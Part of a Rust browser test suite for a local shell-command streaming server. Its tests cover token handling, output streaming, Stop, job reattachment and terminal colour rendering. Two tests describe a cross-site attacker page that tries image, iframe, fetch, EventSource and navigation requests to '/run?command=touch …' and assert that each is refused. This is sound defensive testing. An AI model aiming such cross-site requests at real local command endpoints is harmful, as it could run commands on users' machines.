//! The built-in page (contract §2 `GET /`) in Debian's real headless Chromium,
//! driven over WebDriver by the tests' one client (tests/webdriver/): the cookie-less token flow (§4, v3: the printed URL, the
//! token kept in the tab's `sessionStorage`, a reload), streaming output
//! (§3.2, §3.3), Stop killing the child (§3.6), the page telling the user why
//! a stream could not start; jobs (§7): a reload mid-run re-attaches without
//! a repeated line, a network drop forced through the DevTools protocol is
//! resumed by EventSource itself, the job list re-attaches from a second tab;
//! and an attacker page on another local port that
//! tries every way a page can make a browser send a request (§4, v3:
//! `Sec-Fetch-Site`, `Origin`), with and without `--no-auth`.
//!
//! Needs `/usr/bin/chromium` and `chromedriver` (`apt-get install chromium
//! chromium-driver`). Without them each test prints `SKIPPED` and passes,
//! unless `CI=true` or `SSECOMMANDER_REQUIRE_BROWSER=1`, where it fails.
//! Screenshots go to `target/browser-*.png`.

mod common;
mod webdriver;

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::Command;
use std::sync::Mutex;
use std::time::{Duration, Instant};

use serde_json::{json, Value};
use webdriver::{Browser, CONTROL, ENTER};

/// The server's default `--kill-grace` (contract §1), which these tests keep.
const KILL_GRACE: Duration = Duration::from_secs(2);
/// Bound for the page to show what a short command printed.
const PAGE_TIMEOUT: Duration = Duration::from_secs(15);

// ---------------------------------------------------------------- the tests

/// Cookie login through the printed URL, then stdout and stderr as they come.
#[test]
fn browser_runs_command_and_streams_output() {
    let Some(browser) = Browser::available("run", false) else {
        return;
    };
    let server = common::Server::start(&["--shell"]);
    open_page_with_token(&browser, &server);

    assert_eq!(
        browser.exec("return document.activeElement && document.activeElement.id", json!([])),
        json!("command"),
        "the command input has focus on load"
    );
    let command = r"printf 'a\nb\n'; echo err >&2";
    browser.send_keys("#command", &format!("{command}{ENTER}"));
    let state = browser.wait_for("stdout a, b; stderr err; exit code 0", PAGE_TIMEOUT, |s| {
        lines_of(&s["stdout"]).iter().any(|l| l == "a")
            && lines_of(&s["stdout"]).iter().any(|l| l == "b")
            && lines_of(&s["stderr"]).iter().any(|l| l == "err")
            && status(s).contains("exit code 0")
    });
    assert!(
        !lines_of(&state["stdout"]).iter().any(|l| l.contains("err")),
        "stderr text must not be in a stdout element: {state:#}"
    );
    let colours = browser.exec(
        "var o=document.querySelector('#output .stdout'),e=document.querySelector('#output .stderr');\
         return [getComputedStyle(o).color, getComputedStyle(e).color];",
        json!([]),
    );
    assert_ne!(colours[0], colours[1], "stderr must look different from stdout");
    browser.screenshot("browser-run.png");
}

/// A lone CR rewrites the line, as in a terminal: `\r1\r2\r3` ends as `3`.
#[test]
fn browser_carriage_return_rewrites_line() {
    let Some(browser) = Browser::available("progress", false) else {
        return;
    };
    let server = common::Server::start(&["--shell"]);
    open_page_with_token(&browser, &server);

    let command = r#"for i in 1 2 3; do printf "\r$i"; sleep 0.3; done; echo"#;
    browser.send_keys("#command", &format!("{command}{ENTER}"));
    let state = browser.wait_for("exit code 0", PAGE_TIMEOUT, |s| status(s).contains("exit code 0"));
    let lines = lines_of(&state["output"]);
    browser.screenshot("browser-progress.png");
    assert!(lines.iter().any(|l| l == "3"), "a line `3` expected: {state:#}");
    assert!(
        !lines.iter().any(|l| l.contains("12") || l.contains("23")),
        "CR must rewrite the line, not append: {state:#}"
    );
}

/// Stop closes the stream; the server kills the child within the kill grace.
#[test]
fn browser_stop_kills_command() {
    let Some(browser) = Browser::available("stop", false) else {
        return;
    };
    let server = common::Server::start(&["--shell"]);
    open_page_with_token(&browser, &server);

    let marker = common::sleep_marker();
    browser.send_keys("#command", &format!("sleep {marker}{ENTER}"));
    let pids = poll_for("the sleep to appear in /proc", PAGE_TIMEOUT, || {
        let pids = common::pids_with_marker(&marker);
        (!pids.is_empty()).then_some(pids)
    });
    browser.wait_for("status running", PAGE_TIMEOUT, |s| status(s).contains("running"));

    browser.click("#stop");
    let stopped_at = Instant::now();
    let limit = KILL_GRACE + Duration::from_secs(2);
    let state = browser.wait_for("status stopped", PAGE_TIMEOUT, |s| status(s).contains("stopped"));
    let left = limit.saturating_sub(stopped_at.elapsed());
    poll_for(
        &format!("pids {pids:?} (sleep {marker}) to end within {limit:?} of Stop"),
        left,
        || pids.iter().all(|&p| gone(p, server.pid())).then_some(()),
    );
    eprintln!(
        "child gone {:?} after Stop; page: {}",
        stopped_at.elapsed(),
        status(&state)
    );
    browser.screenshot("browser-stop.png");
    assert!(
        common::pids_with_marker(&marker).is_empty(),
        "no process with {marker} may remain"
    );
}

/// Without a token the page still loads (it holds no secret), says where
/// the URL with the token comes from, and runs nothing; the same after the
/// tab has lost its kept token.
#[test]
fn browser_without_token_says_how_to_get_it() {
    let Some(browser) = Browser::available("unauthorised", false) else {
        return;
    };
    let server = common::Server::start(&["--shell"]);
    let base = server.base.trim_end_matches('/').to_owned();

    // §4 (v3): `GET /` is served without a token; the page says what to do.
    browser.goto(&format!("{base}/"));
    let state = browser.wait_for("the no-token notice", PAGE_TIMEOUT, |s| {
        s["hasCommand"] == json!(true) && no_token_notice(s)
    });
    browser.screenshot("browser-no-token.png");
    assert!(
        status(&state).contains("not authorised") && status(&state).contains("?token="),
        "the status line says what to open: {state:#}"
    );
    assert!(browser.cookies().is_empty(), "§4 (v3): no cookie is ever set");

    let marker_file = common::marker_path("browser-noauth");
    browser.send_keys("#command", &format!("touch {}{ENTER}", marker_file.str()));
    let state = browser.wait_for("the not-authorised message after Run", PAGE_TIMEOUT, |s| {
        status(s).contains("not authorised") && no_token_notice(s)
    });
    std::thread::sleep(Duration::from_millis(500)); // give a wrongly started `touch` time to show
    assert!(!marker_file.exists(), "the command ran without a token: {state:#}");

    // The token, then lost from the tab (storage cleared): told again.
    open_page_with_token(&browser, &server);
    browser.exec("sessionStorage.clear(); location.reload();", json!([]));
    browser.wait_for(
        "the no-token notice after the kept token was cleared",
        PAGE_TIMEOUT,
        |s| s["hasCommand"] == json!(true) && no_token_notice(s),
    );
}

/// The printed URL, a run, Stop, then a reload: the token still works from
/// `sessionStorage`, and the address bar never shows it again.
#[test]
fn browser_reload_keeps_the_token_out_of_the_address() {
    let Some(browser) = Browser::available("reload", false) else {
        return;
    };
    let server = common::Server::start(&[]);
    open_page_with_token(&browser, &server);

    browser.send_keys("#command", &format!("echo before-reload{ENTER}"));
    browser.wait_for("before-reload, exit code 0", PAGE_TIMEOUT, |s| {
        lines_of(&s["stdout"]).iter().any(|l| l == "before-reload") && status(s).contains("exit code 0")
    });
    let marker = common::sleep_marker();
    browser.clear("#command");
    browser.send_keys("#command", &format!("sleep {marker}{ENTER}"));
    browser.wait_for("status running", PAGE_TIMEOUT, |s| status(s).contains("running"));
    browser.click("#stop");
    browser.wait_for("status stopped", PAGE_TIMEOUT, |s| status(s).contains("stopped"));

    browser.reload();
    let want = format!("{}/", server.base.trim_end_matches('/'));
    let state = browser.wait_for("the page again after the reload", PAGE_TIMEOUT, |s| {
        s["url"] == json!(want) && s["hasCommand"] == json!(true)
    });
    assert!(
        !no_token_notice(&state),
        "the kept token was not used after reload: {state:#}"
    );
    browser.send_keys("#command", &format!("echo after-reload{ENTER}"));
    let state = browser.wait_for("after-reload, exit code 0", PAGE_TIMEOUT, |s| {
        lines_of(&s["stdout"]).iter().any(|l| l == "after-reload") && status(s).contains("exit code 0")
    });
    let token = server.token.as_deref().expect("a token");
    assert!(
        !state["url"].as_str().unwrap_or("").contains(token),
        "the token is back in the address bar: {state:#}"
    );
    assert!(browser.cookies().is_empty(), "§4 (v3): no cookie is ever set");
    browser.screenshot("browser-reload.png");
}

/// §4 (v3): after the user opened the printed URL, a page on another local
/// port (same site: `127.0.0.1`) and on another site (`localhost`) tries an
/// image, an iframe, a `no-cors` fetch, a CORS fetch, an EventSource and a
/// top-level navigation to `/run?command=touch …`. Nothing runs, each attempt
/// reached the server and got `403`, and the attacker's server never sees
/// the token. Then the user's own page still runs commands.
#[test]
fn browser_attacker_page_runs_nothing_and_learns_no_token() {
    let Some(browser) = Browser::available("attack", false) else {
        return;
    };
    attack(&browser, &[]);
}

/// The same attack under `--no-auth`: `Sec-Fetch-Site` and `Origin` alone
/// must stop it.
#[test]
fn browser_attacker_page_runs_nothing_under_no_auth() {
    let Some(browser) = Browser::available("attack", false) else {
        return;
    };
    attack(&browser, &["--no-auth"]);
}

/// `err` (cannot start) shows its message; a vanished server is "unreachable".
#[test]
fn browser_shows_start_error_and_unreachable_server() {
    let Some(browser) = Browser::available("errors", false) else {
        return;
    };
    let server = common::Server::start(&[]);
    open_page_with_token(&browser, &server);

    let missing = format!("no-such-program-{}-{}", std::process::id(), common::next_id());
    browser.send_keys("#command", &format!("{missing}{ENTER}"));
    browser.wait_for("an error status naming the program", PAGE_TIMEOUT, |s| {
        status(s).contains("error") && status(s).contains(&missing)
    });
    browser.screenshot("browser-error.png");

    drop(server);
    browser.clear("#command");
    browser.send_keys("#command", &format!("echo hi{ENTER}"));
    browser.wait_for("server unreachable", PAGE_TIMEOUT, |s| {
        status(s).contains("server unreachable")
    });
    browser.screenshot("browser-unreachable.png");
}

/// §7 in the page: a reload while a job prints re-attaches to the same job
/// (kept in the tab's `sessionStorage`), redraws its output from the start
/// into a cleared view with no line twice, and ends with its exit status.
#[test]
fn browser_reload_mid_run_reattaches_without_duplicates() {
    let Some(browser) = Browser::available("reattach", false) else {
        return;
    };
    let server = common::Server::start(&["--shell"]);
    open_page_with_token(&browser, &server);

    let command = "for i in $(seq 1 40); do echo line-$i; sleep 0.1; done";
    browser.send_keys("#command", &format!("{command}{ENTER}"));
    browser.wait_for("line-8 on the page", PAGE_TIMEOUT, |s| {
        lines_of(&s["stdout"]).iter().any(|l| l == "line-8")
    });
    let job = kept_job(&browser);
    assert!(!job.is_empty(), "the page keeps the job it shows in sessionStorage");
    browser.exec("window.beforeReload = true;", json!([]));
    browser.reload();
    assert_eq!(browser.exec("return !!window.beforeReload;", json!([])), json!(false));
    // The reloaded page is attached again while the job still runs.
    let state = browser.wait_for("the re-attached page, still running", PAGE_TIMEOUT, |s| {
        s["job"] == json!(job) && status(s).contains("running")
    });
    let before_end = numbered(&state, "line-");
    assert!(
        before_end.len() < 40,
        "the reload came after the job ended; the test proves nothing: {state:#}"
    );
    let state = browser.wait_for("exit code 0 after the reload", PAGE_TIMEOUT, |s| {
        status(s).contains("exit code 0")
    });
    browser.screenshot("browser-reattach.png");
    assert_eq!(
        numbered(&state, "line-"),
        (1..=40).collect::<Vec<_>>(),
        "each line once, in order: {state:#}"
    );
    let headers = lines_of(&state["output"])
        .iter()
        .filter(|l| l.starts_with("$ "))
        .count();
    assert_eq!(headers, 1, "one command line at the top: {state:#}");
    // §12 one stream: the events come from the tab's one GET /jobs/events,
    // opened once per load; the reloaded page reads the job's past from its
    // own stream at most once (not when its new stream brought it first).
    assert_eq!(feed_requests(&server), 2, "one stream per page load:\n{}", server.log());
    assert!(
        events_requests(&server, &job) <= 1,
        "the job's own stream read at most once, after the reload:\n{}",
        server.log()
    );
}

/// §7 in the page: the network goes offline (DevTools protocol) while a job
/// prints numbered lines (and its open connection is torn down), then online
/// again. EventSource reconnects by
/// itself with `Last-Event-ID`; the server goes on from the next event, so
/// nothing is lost or repeated and the page does not have to drop repeats.
#[test]
fn browser_network_drop_resumes_without_loss_or_repeat() {
    // The drop is made with iproute2's `ss -K`: an outside tool.
    let ss = ssecommander::harness::outside::runs("ss", &["-V"]);
    if !ssecommander::harness::outside::available(ss, "ss", "apt-get install iproute2") {
        return;
    }
    let Some(browser) = Browser::available("netdrop", false) else {
        return;
    };
    let server = common::Server::start(&["--shell"]);
    open_page_with_token(&browser, &server);

    let command = "for i in $(seq 1 120); do echo n-$i; sleep 0.05; done";
    browser.send_keys("#command", &format!("{command}{ENTER}"));
    browser.wait_for("n-5 on the page", PAGE_TIMEOUT, |s| {
        lines_of(&s["stdout"]).iter().any(|l| l == "n-5")
    });
    let job = kept_job(&browser);
    browser.cdp("Network.enable", json!({}));
    browser.cdp(
        "Network.emulateNetworkConditions",
        json!({"offline": true, "latency": 0, "downloadThroughput": -1, "uploadThroughput": -1}),
    );
    // Offline emulation fails new requests but leaves an open response
    // streaming (seen with Chromium 156), so the open connection is also
    // torn down by the kernel (`ss -K`), as a real drop would.
    kill_sockets_to(server.addr.port());
    let state = browser.wait_for("the page to notice the drop", PAGE_TIMEOUT, |s| {
        status(s).contains("reconnecting")
    });
    browser.screenshot("browser-netdrop-offline.png");
    let seen_offline = numbered(&state, "n-");
    std::thread::sleep(Duration::from_millis(1500));
    browser.cdp(
        "Network.emulateNetworkConditions",
        json!({"offline": false, "latency": 0, "downloadThroughput": -1, "uploadThroughput": -1}),
    );
    let state = browser.wait_for("exit code 0 after the drop", PAGE_TIMEOUT, |s| {
        status(s).contains("exit code 0")
    });
    browser.screenshot("browser-netdrop.png");
    assert!(
        seen_offline.len() < 120,
        "the job ended before the drop; the test proves nothing: {state:#}"
    );
    assert_eq!(
        numbered(&state, "n-"),
        (1..=120).collect::<Vec<_>>(),
        "each line once, in order, after the drop: {state:#}"
    );
    assert_eq!(
        state["repeats"],
        json!(0),
        "the resumed stream repeated events the page had drawn: {state:#}"
    );
    poll_for(
        "a second GET /jobs/events (the page's reconnect) in the log",
        PAGE_TIMEOUT,
        || (feed_requests(&server) >= 2).then_some(()),
    );
    assert_eq!(events_requests(&server, &job), 0, "{}", server.log());
}

/// §7 in the page: the job list shows a running job, and a second tab that
/// opens the page can re-attach to it from the list and see all its output
/// (from the first event on) and its end, as the first tab does.
#[test]
fn browser_job_list_reattaches_from_second_tab() {
    let Some(browser) = Browser::available("joblist", false) else {
        return;
    };
    let server = common::Server::start(&["--shell"]);
    open_page_with_token(&browser, &server);

    let command = "for i in $(seq 1 30); do echo t-$i; sleep 0.1; done";
    browser.send_keys("#command", &format!("{command}{ENTER}"));
    browser.wait_for("t-3 on the page", PAGE_TIMEOUT, |s| {
        lines_of(&s["stdout"]).iter().any(|l| l == "t-3")
    });
    let job = kept_job(&browser);
    let state = browser.wait_for("the job listed as running and current", PAGE_TIMEOUT, |s| {
        s["jobs"]
            .as_array()
            .is_some_and(|js| js.iter().any(|j| j["id"] == json!(job) && j["current"] == json!(true)))
    });
    assert!(
        state["jobs"][0]["text"].as_str().unwrap_or("").contains("running"),
        "the newest job is listed first, running: {state:#}"
    );
    let first = browser.window();

    let second = browser.new_window();
    browser.switch_to(&second);
    open_page_with_token(&browser, &server);
    let state = browser.wait_for("the job in the second tab's list", PAGE_TIMEOUT, |s| {
        s["jobs"]
            .as_array()
            .is_some_and(|js| js.iter().any(|j| j["id"] == json!(job)))
    });
    assert_eq!(
        state["job"],
        Value::Null,
        "a new tab shows no job until asked: {state:#}"
    );
    browser.click(&format!("#joblist li[data-id=\"{job}\"] button"));
    let state = browser.wait_for("the second tab to show the job to its end", PAGE_TIMEOUT, |s| {
        status(s).contains("exit code 0")
    });
    browser.screenshot("browser-joblist-second-tab.png");
    assert_eq!(state["job"], json!(job), "{state:#}");
    assert_eq!(numbered(&state, "t-"), (1..=30).collect::<Vec<_>>(), "{state:#}");

    browser.switch_to(&first);
    let state = browser.wait_for("the first tab to end too", PAGE_TIMEOUT, |s| {
        status(s).contains("exit code 0")
    });
    assert_eq!(numbered(&state, "t-"), (1..=30).collect::<Vec<_>>(), "{state:#}");
    let state = browser.wait_for("the list to show the job ended", PAGE_TIMEOUT, |s| {
        s["jobs"][0]["text"].as_str().is_some_and(|t| t.contains("exit code 0"))
    });
    browser.screenshot("browser-joblist.png");
    assert_eq!(state["jobs"][0]["id"], json!(job), "{state:#}");
}

/// §7.3 in the page: with a tiny `--job-log`, re-attaching after a reload
/// finds the first events forgotten; the page says so plainly ("events 1–T
/// were not kept") and then shows the held tail, to the end.
#[test]
fn browser_shows_a_gap_plainly() {
    let Some(browser) = Browser::available("gap", false) else {
        return;
    };
    let server = common::Server::start(&["--shell", "--job-log", "2K"]);
    open_page_with_token(&browser, &server);

    // One line per event (a pause after each), far more than 2 KiB of events.
    let command = "for i in $(seq 1 300); do echo $i; sleep 0.002; done; sleep 1.5; echo done";
    browser.send_keys("#command", &format!("{command}{ENTER}"));
    browser.wait_for("300 on the page", PAGE_TIMEOUT, |s| {
        lines_of(&s["stdout"]).iter().any(|l| l == "300")
    });
    browser.reload();
    let state = browser.wait_for("exit code 0 after the reload", PAGE_TIMEOUT, |s| {
        status(s).contains("exit code 0")
    });
    browser.screenshot("browser-gap.png");
    let gaps = browser.exec(
        "return Array.prototype.map.call(document.querySelectorAll('#output .gap'),\
           function (e) { return e.textContent; });",
        json!([]),
    );
    let gaps: Vec<&str> = gaps
        .as_array()
        .map(|g| g.iter().filter_map(Value::as_str).collect())
        .unwrap_or_default();
    assert_eq!(gaps.len(), 1, "one gap notice: {gaps:?} {state:#}");
    assert!(
        gaps[0].starts_with("events 1–") && gaps[0].contains("were not kept"),
        "the notice names the missed ids: {gaps:?}"
    );
    let lines = lines_of(&state["stdout"]);
    assert_eq!(lines.last().map(String::as_str), Some("done"), "{state:#}");
    let numbers: Vec<u32> = lines.iter().filter_map(|l| l.parse().ok()).collect();
    let first = *numbers.first().expect("some held lines after the gap");
    assert!(first > 1, "the first lines were forgotten: {numbers:?}");
    assert_eq!(numbers, (first..=300).collect::<Vec<_>>(), "the held tail, each once");
}

/// Issue 13, the wire inspector: a `/run` stream read with `fetch()` shows,
/// read by read, exactly the body bytes a raw socket gets for the same
/// request (chunked framing removed), in json and raw; the event table lists
/// each event's id, name and size; tab and U+FFFD are marked.
#[test]
fn browser_wire_inspector_shows_the_exact_bytes_of_run() {
    let Some(browser) = Browser::available("wire", false) else {
        return;
    };
    let server = common::Server::start(&["--shell"]);
    open_page_with_token(&browser, &server);

    // Tab, CRLF, an invalid byte, a 3-byte character on stderr; the sleeps
    // make each printf one read of the pipe, so both runs cut the same events.
    let command = r"printf 'a\tb\r\nc\377d\n'; sleep 0.2; printf 'two\n'; sleep 0.2; printf 'x\342\202\254y\n' >&2";
    browser.click("#wire");
    browser.click("#via option[value=run]");
    for format in ["raw", "json"] {
        browser.click(&format!("#fmt option[value={format}]"));
        browser.clear("#command");
        browser.send_keys("#command", &format!("{command}{ENTER}"));
        let state = browser.wait_for("exit code 0", PAGE_TIMEOUT, |s| status(s).contains("exit code 0"));
        let wire = wait_inspector(&browser, "the stream to end", |w| w["state"] == json!("ended"));
        if format == "raw" {
            // The first read holds the tab and the U+FFFD: show it (docs/inspector.png).
            browser.exec("document.getElementById('blocks').scrollTop = 0;", json!([]));
            browser.screenshot("browser-wire.png");
            assert!(lines_of(&state["stdout"]).iter().any(|l| l == "two"), "{state:#}");
        }

        let target = format!("/run?command={}&format={format}", common::pct(command));
        let socket = server.run_target(&target);
        let seen = captured(&wire);
        assert_eq!(
            String::from_utf8_lossy(&seen),
            String::from_utf8_lossy(&socket.resp.body),
            "{format}: the inspector's bytes are the body a raw socket reads"
        );
        assert_eq!(seen, socket.resp.body, "{format}: byte for byte");
        let want_rows = event_rows(&socket.resp.body);
        let names: Vec<&str> = want_rows.iter().map(|r| r[1].as_str()).collect();
        assert_eq!(names, ["stdout", "stdout", "stderr", "exit"], "{format}: {want_rows:?}");
        assert_eq!(table_rows(&wire), want_rows, "{format}: id, event, bytes of each event");

        let blocks = wire["blocks"].as_array().expect("blocks");
        let times: Vec<f64> = blocks.iter().map(|b| b["ms"].as_f64().unwrap_or(-1.0)).collect();
        assert!(
            blocks.len() >= 3,
            "{format}: two sleeps make at least three reads: {times:?}"
        );
        assert!(times.windows(2).all(|t| t[0] <= t[1]) && times[0] >= 0.0, "{times:?}");
        assert!(
            times[times.len() - 1] - times[0] >= 350.0,
            "{format}: the reads arrived 400 ms apart at least (two sleeps of 0.2 s): {times:?}"
        );
        for block in blocks {
            let hex = block["hex"].as_str().unwrap_or("");
            assert_eq!(block["size"].as_u64(), Some(hex.len() as u64 / 2), "{block}");
        }
        assert!(wire["head"].as_str().unwrap_or("").contains("200 OK"), "{wire:#}");
        assert!(
            wire["head"]
                .as_str()
                .unwrap_or("")
                .contains("content-type: text/event-stream"),
            "{wire:#}"
        );
        let marks = &wire["marks"];
        assert_eq!(
            marks["end"],
            json!(4),
            "{format}: one end-of-event mark per event: {marks}"
        );
        assert_eq!(marks["id"], json!(4), "{format}: four id: fields coloured: {marks}");
        assert!(marks["bad"].as_u64() >= Some(1), "{format}: U+FFFD marked: {marks}");
        // raw carries the tab itself; json escapes it as the two characters \t.
        let tabs = if format == "raw" { 1 } else { 0 };
        assert_eq!(marks["tab"], json!(tabs), "{format}: tab marks: {marks}");
    }
}

/// The inspector on a job stream (§7.3): the bytes of `/jobs/ID/events`,
/// `retry:` block first, match what a raw socket reads from the same
/// (finished) job; the table starts with the `retry` block.
#[test]
fn browser_wire_inspector_reads_a_job_stream() {
    let Some(browser) = Browser::available("wire-job", false) else {
        return;
    };
    let server = common::Server::start(&["--shell"]);
    open_page_with_token(&browser, &server);

    browser.click("#wire");
    let command = r"printf 'one\n'; sleep 0.2; printf 'two\n'";
    browser.send_keys("#command", &format!("{command}{ENTER}"));
    browser.wait_for("exit code 0", PAGE_TIMEOUT, |s| status(s).contains("exit code 0"));
    let wire = wait_inspector(&browser, "the stream to end", |w| w["state"] == json!("ended"));
    let job = kept_job(&browser);
    assert!(
        wire["path"]
            .as_str()
            .is_some_and(|p| p == format!("/jobs/{job}/events?format=json")),
        "the inspector read the job's stream: {wire:#}"
    );
    let socket = server.get(&format!("/jobs/{job}/events?format=json"));
    socket.assert_status(200, "the finished job's events");
    assert_eq!(
        String::from_utf8_lossy(&captured(&wire)),
        String::from_utf8_lossy(&socket.body),
        "the inspector's bytes are what a raw socket reads from the job"
    );
    let rows = table_rows(&wire);
    assert_eq!(rows, event_rows(&socket.body));
    let names: Vec<&str> = rows.iter().map(|r| r[1].as_str()).collect();
    assert_eq!(names, ["retry", "stdout", "stdout", "exit"], "{rows:?}");
    assert_eq!(rows[0], ["", "retry", "13"], "`retry: 1000\\n\\n` is 13 bytes");
}

/// `cat /dev/zero` in the inspector: the page keeps reading, keeps at most
/// its bound of reads and says older ones were dropped; Stop aborts the
/// fetch, and the server stops the command (§3.6).
#[test]
fn browser_wire_inspector_bounds_a_flood_and_stop_ends_it() {
    let Some(browser) = Browser::available("wire-flood", false) else {
        return;
    };
    let server = common::Server::start(&["--shell"]);
    open_page_with_token(&browser, &server);

    browser.click("#wire");
    browser.click("#via option[value=run]");
    browser.send_keys("#command", &format!("cat /dev/zero{ENTER}"));
    let wire = wait_inspector(&browser, "8 MiB read", |w| w["bytes"].as_u64() > Some(8 << 20));
    browser.screenshot("browser-wire-flood.png");
    let blocks = wire["blocks"].as_array().expect("blocks");
    let kept: u64 = blocks.iter().filter_map(|b| b["size"].as_u64()).sum();
    let largest = blocks.iter().filter_map(|b| b["size"].as_u64()).max().unwrap_or(0);
    assert!(blocks.len() <= 300, "at most 300 reads kept: {}", blocks.len());
    assert!(kept <= (256 << 10) + largest, "about 256 KiB kept, not {kept}");
    assert!(wire["dropped"].as_u64() > Some(0), "{wire:#}");
    assert!(
        wire["note"].as_str().unwrap_or("").contains("older reads"),
        "the page says older reads were dropped: {}",
        wire["note"]
    );
    assert!(!server.children().is_empty(), "cat runs while the stream is read");

    browser.click("#stop");
    browser.wait_for("status stopped", PAGE_TIMEOUT, |s| status(s).contains("stopped"));
    server.wait_no_children(KILL_GRACE + Duration::from_secs(3));
    let wire = wait_inspector(&browser, "the fetch aborted", |w| w["state"] == json!("aborted"));
    let kept = wire["blocks"].as_array().map_or(0, Vec::len) as u64;
    assert!(
        wire["reads"].as_u64() > Some(kept),
        "reads {} > kept {kept}",
        wire["reads"]
    );
}

// ---------------------------------------------------------------- terminal rendering (§12, v4)

/// §12: SGR from `printf` (16, 256 and 24-bit colours, `;` and `:` forms,
/// attributes, inverse, a sequence cut between two events), `ls
/// --color=always` and `grep --color=always` show as computed styles, on
/// stdout and stderr alike, with no escape text left on the page.
#[test]
fn browser_terminal_colours_are_computed_styles() {
    let Some(browser) = Browser::available("colours", false) else {
        return;
    };
    let server = common::Server::start(&["--shell"]);
    open_page_with_token(&browser, &server);
    let dir = common::scratch_dir("colours");
    std::fs::create_dir_all(dir.path().join("adir")).expect("mkdir");

    let command = format!(
        r"printf '\033[31mred\033[0m \033[1;32mboldgreen\033[0m \033[38;5;196mc196\033[0m \033[38;2;1;2;3mtrue\033[0m \033[48;5;21mbg21\033[0m \033[3mital\033[23m \033[4mund\033[24m \033[9mstrike\033[29m \033[7minv\033[27m \033[2mdim\033[22m \033[95mbright\033[39m plain\n'; printf '\033[38:2::10:20:30mcolon\033[m\n'; printf 'x\033['; sleep 0.3; printf '35msplit\033[0m\n'; printf '\033[33mwarn\033[0m errplain\n' >&2; ls --color=always {}; echo 'xx needle yy' | grep --color=always needle",
        dir.str()
    );
    browser.send_keys("[data-role=command]", &format!("{command}{ENTER}"));
    let state = browser.wait_for("exit code 0", PAGE_TIMEOUT, |s| status(s).contains("exit code 0"));
    browser.screenshot("browser-colours.png");
    let runs = output_runs(&browser);
    let run = |text: &str| -> Value {
        runs.iter()
            .find(|r| r["text"].as_str().map(str::trim) == Some(text))
            .cloned()
            .unwrap_or_else(|| panic!("no run {text:?} on the page: {runs:#?}"))
    };
    let default = run("plain");
    let cases = [
        ("red", "color", "rgb(255, 123, 114)"),
        ("boldgreen", "color", "rgb(63, 185, 80)"),
        ("boldgreen", "weight", "700"),
        ("c196", "color", "rgb(255, 0, 0)"),
        ("true", "color", "rgb(1, 2, 3)"),
        ("bg21", "bg", "rgb(0, 0, 255)"),
        ("ital", "style", "italic"),
        ("und", "decoration", "underline"),
        ("strike", "decoration", "line-through"),
        ("inv", "color", "rgb(13, 17, 23)"),
        ("inv", "bg", "rgb(230, 237, 243)"),
        ("dim", "opacity", "0.6"),
        ("bright", "color", "rgb(210, 168, 255)"),
        ("colon", "color", "rgb(10, 20, 30)"),
        ("split", "color", "rgb(188, 140, 255)"),
        ("warn", "color", "rgb(210, 153, 34)"),
        ("plain", "color", "rgb(230, 237, 243)"),
        ("plain", "weight", "400"),
    ];
    for (text, property, want) in cases {
        assert_eq!(
            run(text)[property],
            json!(want),
            "{property} of {text:?}: {:#}",
            run(text)
        );
    }
    assert_eq!(run("warn")["stream"], json!("stderr"), "{:#}", run("warn"));
    assert_eq!(
        run("errplain")["color"],
        json!("rgb(255, 123, 114)"),
        "stderr keeps its colour"
    );
    assert_ne!(run("adir")["color"], default["color"], "ls colours a directory");
    assert_ne!(run("needle")["color"], default["color"], "grep colours the match");
    assert_eq!(run("needle")["weight"], json!("700"), "grep's match is bold");
    // The output below the command line.
    let output = lines_of(&state["output"])[1..].join("\n");
    assert!(output.contains("xsplit"), "a sequence cut between events: {output}");
    assert!(
        !output.contains('\u{1b}') && !output.contains("[0m") && !output.contains("35m") && !output.contains("[K"),
        "no escape text on the page: {output:?}"
    );
}

/// §12: a two-line progress drawn again and again with `ESC[1A`/`ESC[2A`,
/// `ESC[K` and `ESC[2K` (a Python script) shows one frame while it runs and
/// ends with the final frame only; `\r` progress and `curl --progress-bar`
/// likewise.
#[test]
fn browser_terminal_progress_ends_with_the_final_frame() {
    let Some(browser) = Browser::available("bars", false) else {
        return;
    };
    let server = common::Server::start(&["--shell"]);
    open_page_with_token(&browser, &server);
    let dir = common::scratch_dir("bars");
    let script = dir.path().join("bars.py");
    std::fs::write(
        &script,
        "import sys, time\n\
         print('header', flush=True)\n\
         for i in range(0, 101, 5):\n\
         \x20   if i:\n\
         \x20       sys.stdout.write('\\x1b[2A' if i % 10 else '\\x1b[1A\\x1b[1A')\n\
         \x20   n = i // 5\n\
         \x20   sys.stdout.write('\\r\\x1b[Kdownload [%-20s] %3d%%\\n' % ('#' * n, i))\n\
         \x20   sys.stdout.write('\\x1b[2K\\rverify   [%-20s] %3d%%\\n' % ('=' * n, i))\n\
         \x20   sys.stdout.flush()\n\
         \x20   time.sleep(0.1)\n\
         print('done')\n",
    )
    .expect("write the script");
    browser.send_keys("[data-role=command]", &format!("python3 {}{ENTER}", script.display()));
    // While it runs: never two frames at once.
    let frames_seen = std::cell::Cell::new(0);
    let state = browser.wait_for("exit code 0", PAGE_TIMEOUT, |s| {
        let lines = lines_of(&s["output"]);
        let bars = lines.iter().filter(|l| l.starts_with("download")).count();
        assert!(bars <= 1, "one frame at a time: {lines:#?}");
        frames_seen.set(frames_seen.get() + usize::from(bars == 1 && !status(s).contains("exit")));
        status(s).contains("exit code 0")
    });
    browser.screenshot("browser-bars.png");
    let lines = lines_of(&state["output"]);
    assert_eq!(
        &lines[1..],
        [
            "header",
            "download [####################] 100%",
            "verify   [====================] 100%",
            "done"
        ],
        "the final frame only: {state:#}"
    );
    assert!(frames_seen.get() > 0, "a frame was seen mid-run: {state:#}");

    // CR progress, and a real one: curl --progress-bar from a local server.
    let files = FileServer::start(16 << 20);
    let command = format!(
        r"for i in 1 2 3 4 5; do printf '\rstep %d/5' $i; sleep 0.1; done; echo; curl --progress-bar --limit-rate 8M -o /dev/null http://127.0.0.1:{}/big",
        files.port
    );
    browser.clear("[data-role=command]");
    browser.send_keys("[data-role=command]", &format!("{command}{ENTER}"));
    let curl_frames = std::cell::Cell::new(0);
    let state = browser.wait_for("exit code 0", Duration::from_secs(30), |s| {
        let bars = lines_of(&s["stderr"]).iter().filter(|l| l.contains('%')).count();
        assert!(bars <= 1, "one curl frame at a time: {s:#}");
        curl_frames.set(curl_frames.get() + usize::from(bars == 1 && !status(s).contains("exit")));
        status(s).contains("exit code 0")
    });
    browser.screenshot("browser-curl.png");
    let lines = lines_of(&state["output"]);
    assert_eq!(
        lines.iter().filter(|l| l.starts_with("step")).collect::<Vec<_>>(),
        ["step 5/5"],
        "{state:#}"
    );
